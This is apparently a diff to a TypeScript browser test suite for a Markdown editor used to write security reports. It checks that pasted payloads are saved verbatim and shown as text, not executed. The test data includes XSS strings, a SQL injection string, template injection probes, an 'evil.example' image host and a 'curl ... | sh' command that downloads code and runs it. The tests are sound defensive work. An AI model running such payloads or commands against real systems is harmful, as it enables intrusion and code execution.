@@ -21,7 +21,9 @@ import {
   insertFileLinkAt,
   removeFileLinks,
 } from '../../src/shared/rules';
+import { readFileSync } from 'node:fs';
 import { COMMONMARK_EXAMPLES, description } from '../rules/support/descriptions';
+import { reportText } from '../rules/support/report-text';
 import { buildEditorHarness } from './editor-harness/build';
 import { CHROMIUM, CHROMIUM_FLAGS } from './support/app';
 
@@ -35,6 +37,14 @@ const SEED = Number(process.env.PROPERTY_SEED) || 5;
  * with different delimiters).
  */
 const KNOWN_UNSTABLE = new Map<number, string>([[432, 'strong emphasis nested in itself']]);
+
+/** GFM's own examples of its extensions (test/fixtures/real/SOURCES.md). */
+const GFM_EXAMPLES = JSON.parse(
+  readFileSync(
+    new URL('../fixtures/real/gfm-spec/extension-examples.json', import.meta.url),
+    'utf8',
+  ),
+) as { number: number; section: string; markdown: string }[];
 
 interface RoundTrip {
   first: string;
@@ -85,6 +95,13 @@ async function typedAll(list: string[]): Promise<string[]> {
 function comparable(text: string): string {
   // Footnote references: the renderer writes "[1]", the editor a superscript "1".
   return text.replace(/\[(\d+)\]/g, '$1').replace(/\s+/g, '');
+}
+
+/** Text as the app shows it: `plainText`, with raw HTML as the text it is made of. */
+function shownText(node: Nodes): string {
+  if (node.type === 'html') return node.value;
+  if ('children' in node) return (node.children as Nodes[]).map(shownText).join('');
+  return plainText(node);
 }
 
 /** The rules that read a description, on Markdown the editor wrote: a throw is a problem. */
@@ -147,6 +164,24 @@ describe('editor round trip (Chromium)', () => {
     expect(found).toEqual([]);
   }, 120_000);
 
+  it(`is stable and shows what it writes for the ${GFM_EXAMPLES.length} GFM extension examples (tables, task lists, strikethrough, autolinks)`, async () => {
+    const inputs = GFM_EXAMPLES.map((e) => e.markdown);
+    const results = await roundTrips(inputs);
+    expect(problems(inputs, results, () => false)).toEqual([]);
+    // Example 627 (found by the 10,000-text run): a "<" the writer escapes right after a literal
+    // autolink put a backslash into the link when read back; the link is now written explicitly.
+    const at = GFM_EXAMPLES.findIndex((e) => e.number === 627);
+    expect(results[at]?.first).toBe('[www.commonmark.org/he](http://www.commonmark.org/he)<lp\n');
+  });
+
+  it(`is stable and shows what it writes for ${GENERATED_CASES} report texts with pasted payloads`, async () => {
+    // The full run (10,000 and the counts of what is written back byte for byte) is
+    // `npx tsx bench/editor-roundtrip.ts`.
+    const inputs = fc.sample(reportText, { numRuns: GENERATED_CASES, seed: SEED });
+    const found = problems(inputs, await roundTrips(inputs), () => false);
+    expect(found).toEqual([]);
+  }, 180_000);
+
   it(`is stable and shows what it writes for ${GENERATED_CASES} generated descriptions`, async () => {
     const inputs = fc.sample(description, { numRuns: GENERATED_CASES, seed: SEED });
     const found = problems(inputs, await roundTrips(inputs), () => false);
@@ -180,7 +215,7 @@ describe('editor round trip (Chromium)', () => {
     const wrong: string[] = [];
     outputs.forEach((markdown, i) => {
       const typed = inputs[i] as string;
-      const read = plainText(parseMarkdown(markdown) as Nodes);
+      const read = shownText(parseMarkdown(markdown) as Nodes);
       if (read.trim() !== typed.trim())
         wrong.push(`${JSON.stringify(typed)} → ${JSON.stringify(markdown)}`);
       for (const url of typed.match(/(?:https?:\/\/|www\.)\S+|\S+@\S+/g) ?? []) {
@@ -213,12 +248,12 @@ describe('editor round trip (Chromium)', () => {
         {
           html: '<table><tr><th>Request</th><th>Result</th></tr><tr><td>a</td><td>b</td></tr></table>',
         },
-        '| Request | Result |\n| :- | :- |\n| a | b |\n',
+        '| Request | Result |\n| :--- | :--- |\n| a | b |\n',
       ],
-      // Plain text is read as Markdown; raw HTML in it stays visible text.
+      // Plain text is read as Markdown; raw HTML in it stays visible text, stored as pasted.
       [
         { text: 'see <img src=x onerror=window.__pwned=5> and https://x.com' },
-        'see \\<img src=x onerror=window.\\_\\_pwned=5> and https://x.com\n',
+        'see <img src=x onerror=window.__pwned=5> and https://x.com\n',
       ],
       [{ text: '![remote](https://evil.example/y.png)' }, '[remote](https://evil.example/y.png)\n'],
     ];
@@ -232,7 +267,8 @@ describe('editor round trip (Chromium)', () => {
         if ('children' in n) for (const c of n.children as Nodes[]) walk(c);
       };
       walk(tree);
-      expect(html).toEqual([]);
+      // Only the pasted text's tag, which the app shows as the text it is (never markup).
+      expect(html.filter((h) => h !== '<img src=x onerror=window.__pwned=5>')).toEqual([]);
     }
     expect(await page.evaluate(() => (globalThis as { __pwned?: number }).__pwned)).toBeUndefined();
     expect(requests.filter((r) => r.includes('evil.example'))).toEqual([]);
@@ -316,5 +352,41 @@ describe('editor round trip (Chromium)', () => {
       expect(result.first).toContain('![shot](https://example.com/shot.png)');
       expect(result.first).toContain('## Security impact\n\nAccount takeover.');
     }
+  });
+});
+
+describe('what the researcher types is saved as typed (issue 22)', () => {
+  it('payloads and redaction marks keep no added backslash where Markdown reads them the same', async () => {
+    const verbatim = [
+      'Key: [REDACTED:aws-access-key] in the response',
+      'Payload <img src=x onerror=alert(1)> in the name field',
+      'XSS: <script>alert(document.domain)</script>',
+      "Login with ' OR 1=1-- as the user",
+      'Template {{7*7}} renders 49; ${7*7} too',
+      'JSON {"id": [1, 2], "admin": true}',
+      'Shell: curl -s https://x.com/a?b=1 | sh',
+      'Path C:\\Users\\me\\AppData',
+    ];
+    const saved = await typedAll(verbatim);
+    expect(saved).toEqual(verbatim.map((text) => `${text}\n`));
+    // Where the backslash changes the reading, it stays: the typed text reads back as typed.
+    // (`<script>` first on a line opens an HTML block, which would take the lines below.)
+    const needed = ['[link](https://x.com)', '&amp; is an entity', '<script>alert(1)</script>'];
+    const kept = await typedAll(needed);
+    kept.forEach((markdown, i) => {
+      expect(markdown, needed[i]).not.toBe(`${needed[i]}\n`);
+      expect(shownText(parseMarkdown(markdown) as Nodes)).toBe(needed[i]);
+    });
+  });
+
+  it('a table typed row by row becomes a table and is saved as typed', async () => {
+    const table = '| id | name |\n| --- | --- |\n| 1 | admin |\n| 2 | `guest` |';
+    // The caret still in the last row, then after Enter and a paragraph below.
+    const [typing, after] = await typedAll([table, `${table}\nDone.`]);
+    expect(typing).toBe(`${table}\n`);
+    expect(after).toBe(`${table}\n\nDone.\n`);
+    const results = await roundTrips([`${table}\n`]);
+    expect(results[0]?.first).toBe(`${table}\n`);
+    expect(parseMarkdown(after ?? '').children.map((c) => c.type)).toEqual(['table', 'paragraph']);
   });
 });
